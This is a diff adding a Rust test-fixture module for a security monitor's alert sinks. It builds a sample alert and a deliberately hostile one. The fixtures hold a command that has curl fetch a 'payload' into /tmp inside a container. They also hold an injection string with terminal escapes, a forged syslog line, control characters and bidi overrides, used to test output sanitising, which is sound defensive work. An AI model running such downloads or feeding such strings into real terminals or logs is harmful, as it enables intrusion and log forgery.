@@ -1,0 +1,259 @@
+//! Messages for the tests of sinks: one as it should be, one as an attacker would like it.
+
+use std::net::{IpAddr, Ipv4Addr};
+use std::sync::Arc;
+
+use jiff::Timestamp;
+use uuid::Uuid;
+
+use crate::alert::{Action, Alert, Coverage, Detection, HookCoverage, Loss, Message, Notice, Step, Subject};
+use crate::event::Protocol;
+use crate::sigma::Level;
+use crate::sink::Origin;
+use crate::state::container::{Container, Pod, Runtime};
+use crate::state::process::{Executable, Process, ProcessKey};
+
+const MILLISECOND: u64 = 1_000_000;
+const ADDRESS: IpAddr = IpAddr::V4(Ipv4Addr::new(10, 0, 0, 2));
+
+pub(crate) fn origin() -> Origin {
+    Origin {
+        hostname: "node-1".to_owned(),
+        kernel: "6.18.5".to_owned(),
+        boot: "2026-11-21T08:00:00Z".parse().unwrap(),
+        pid: 77,
+        version: "0.1.0",
+    }
+}
+
+fn time() -> Timestamp {
+    "2026-11-21T12:03:14.281042123Z".parse().unwrap()
+}
+
+fn id() -> Uuid {
+    "01932b9e-4c11-7abc-8def-0123456789ab".parse().unwrap()
+}
+
+pub(crate) fn container() -> Container {
+    Container {
+        id: "8f3a2c91d0b4".repeat(6)[..64].to_owned(),
+        runtime: Runtime::Docker,
+        name: Some("web-1".to_owned()),
+        image: Some("nginx:1.25".to_owned()),
+        image_id: None,
+        pod: None,
+        pod_uid: None,
+        verified: true,
+    }
+}
+
+fn process(pid: u32, path: &str, arguments: &[&str], container: Option<&str>) -> Arc<Process> {
+    Arc::new(Process {
+        key: ProcessKey { pid, start_time: u64::from(pid) * MILLISECOND },
+        parent: None,
+        executable: Executable { path: path.to_owned(), ..Executable::default() },
+        arguments: arguments.iter().map(|argument| (*argument).to_owned()).collect(),
+        arguments_truncated: false,
+        directory: Some("/srv".to_owned()),
+        comm: path.rsplit('/').next().unwrap_or(path).chars().take(15).collect(),
+        uid: 0,
+        gid: 0,
+        effective_uid: 0,
+        mnt_ns: 1,
+        pid_ns: 2,
+        cgroup_id: 3,
+        container: container.map(Arc::from),
+        exec_time: u64::from(pid) * MILLISECOND,
+    })
+}
+
+fn detection() -> Detection {
+    Detection {
+        id: "6f2f0b5e-6f0a-4d0a-9e55-0c1f7a8a1d01".to_owned(),
+        title: "curl downloads into a container".to_owned(),
+        name: "curl_download".to_owned(),
+        level: Level::High,
+        techniques: vec!["T1105".to_owned()],
+        tactics: vec!["command-and-control".to_owned()],
+        false_positives: vec!["Images that fetch their configuration at start".to_owned()],
+        response: vec![
+            "Keep the file: docker cp web-1:/tmp/x .".to_owned(),
+            "Ask the owner of the image whether this download is meant to happen; if nobody knows it, pause \
+             the container and go on with the runbook for intrusions."
+                .to_owned(),
+        ],
+    }
+}
+
+pub(crate) fn alert() -> Alert {
+    let step = |milliseconds, action| Step {
+        offset: milliseconds * MILLISECOND,
+        pid: 4242,
+        program: "curl".to_owned(),
+        action,
+    };
+    let container = container();
+    let inside = Some(container.id.as_str());
+    Alert {
+        id: id(),
+        sequence: 7,
+        time: time(),
+        level: Level::High,
+        detection: detection(),
+        related: Vec::new(),
+        process: process(
+            4242,
+            "/usr/bin/curl",
+            &["curl", "-sSLo", "/tmp/x", "http://10.0.0.2/payload"],
+            inside,
+        ),
+        ancestors: vec![
+            process(4240, "/bin/sh", &["sh", "-c", "curl -sSLo /tmp/x http://10.0.0.2/payload"], inside),
+            process(900, "/usr/bin/containerd-shim-runc-v2", &["containerd-shim-runc-v2"], None),
+        ],
+        container: Some(Arc::new(container)),
+        user: Some(Arc::from("root")),
+        steps: vec![
+            step(
+                0,
+                Action::Executed { command_line: "curl -sSLo /tmp/x http://10.0.0.2/payload".to_owned() },
+            ),
+            step(12, Action::Connected { protocol: Protocol::Tcp, address: ADDRESS, port: 80 }),
+            step(15, Action::Wrote { path: "/tmp/x".to_owned(), size: Some(1_258_291) }),
+            step(
+                19,
+                Action::Disconnected {
+                    address: ADDRESS,
+                    port: 80,
+                    bytes_sent: 92,
+                    bytes_received: 1_258_291,
+                },
+            ),
+            step(20, Action::Exited { status: Some(0), signal: None }),
+        ],
+        steps_omitted: 0,
+        pending: Vec::new(),
+    }
+}
+
+pub(crate) fn message() -> Message {
+    Message::Alert(Box::new(alert()))
+}
+
+/// Text that would clear a terminal, forge a line, end a field, and reorder what follows.
+pub(crate) const HOSTILE: &str = "x\u{1b}[2J\u{1b}]0;owned\u{7}\n<10>1 - forged - - - - \r\t\0\u{9b}1;31m\u{202e}\u{2066}\u{2028}\"]\\ \u{e0041}é";
+
+/// Every text of an alert that a watched process or a rule's author controls, hostile and long.
+pub(crate) fn hostile() -> Alert {
+    let text = || HOSTILE.repeat(60);
+    let mut alert = alert();
+    let evil = |pid| {
+        Arc::new(Process {
+            executable: Executable {
+                path: text(),
+                invoked: Some(text() + "i"),
+                applet: Some(text() + "a"),
+                memfd: true,
+                deleted: true,
+                upper_layer: true,
+                file: None,
+            },
+            arguments: (0..50).map(|_| text()).collect(),
+            arguments_truncated: true,
+            directory: Some(text()),
+            comm: text(),
+            effective_uid: 0,
+            uid: 4_000_000_000,
+            container: Some(Arc::from(text().as_str())),
+            ..(*process(pid, "/x", &[], None)).clone()
+        })
+    };
+    alert.process = evil(u32::MAX);
+    alert.ancestors = (1..17).map(evil).collect();
+    alert.user = Some(Arc::from(text().as_str()));
+    alert.container = Some(Arc::new(Container {
+        id: text(),
+        name: Some(text()),
+        image: Some(text()),
+        image_id: Some(text()),
+        pod: Some(Pod { name: text(), namespace: text(), uid: text() }),
+        ..container()
+    }));
+    alert.detection = Detection {
+        id: text(),
+        title: text(),
+        name: text(),
+        level: Level::Critical,
+        techniques: (0..20).map(|_| text()).collect(),
+        tactics: (0..20).map(|_| text()).collect(),
+        false_positives: (0..20).map(|_| text()).collect(),
+        response: (0..20).map(|_| text()).collect(),
+    };
+    alert.related = vec![alert.detection.clone(); 20];
+    let steps = [
+        Action::Executed { command_line: text() },
+        Action::Opened { path: text() },
+        Action::Wrote { path: text(), size: None },
+        Action::Renamed { from: text(), to: text() + "r" },
+        Action::Exited { status: None, signal: Some(9) },
+    ];
+    alert.steps.extend(steps.into_iter().cycle().take(200).map(|action| Step {
+        offset: u64::MAX,
+        pid: 1,
+        program: text(),
+        action,
+    }));
+    alert.pending = vec!["container.name", "container.image.name"];
+    alert
+}
+
+pub(crate) fn notice(subject: Subject) -> Message {
+    Message::Notice(Notice { id: id(), sequence: 1, time: time(), subject })
+}
+
+pub(crate) fn coverage() -> Message {
+    let hook = |purpose, attached: Option<&str>, tier, refused: &[(&str, &str)], weakens| HookCoverage {
+        purpose,
+        attached: attached.map(str::to_owned),
+        tier,
+        refused: refused.iter().map(|(point, why)| ((*point).to_owned(), (*why).to_owned())).collect(),
+        weakens,
+    };
+    notice(Subject::Coverage(Coverage {
+        kernel: "6.18.5".to_owned(),
+        hooks: vec![
+            hook("program started", Some("tp_btf sched_process_exec"), 1, &[], None),
+            hook("connection", Some("cgroup connect4"), 1, &[], None),
+            hook(
+                "file renamed",
+                Some("fanotify"),
+                2,
+                &[("fentry security_inode_rename", "EPERM")],
+                Some("renames in other mount namespaces"),
+            ),
+            hook(
+                "module loaded",
+                None,
+                0,
+                &[("fentry security_kernel_read_file", "EPERM")],
+                Some("module loads"),
+            ),
+        ],
+        detections: 6,
+        missing_offsets: vec!["task_struct.loginuid"],
+        processes: 231,
+        containers: 3,
+        start_milliseconds: 180,
+    }))
+}
+
+pub(crate) fn loss() -> Message {
+    notice(Subject::Loss(vec![
+        Loss { what: "network_connect".to_owned(), count: 12_408, reason: "ring full" },
+        Loss { what: "syslog udp://127.0.0.1:514".to_owned(), count: 3, reason: "queue full" },
+    ]))
+}
+
+pub(crate) fn stopped() -> Message {
+    notice(Subject::Stopped { alerts: 4, events: 120_034 })
+}
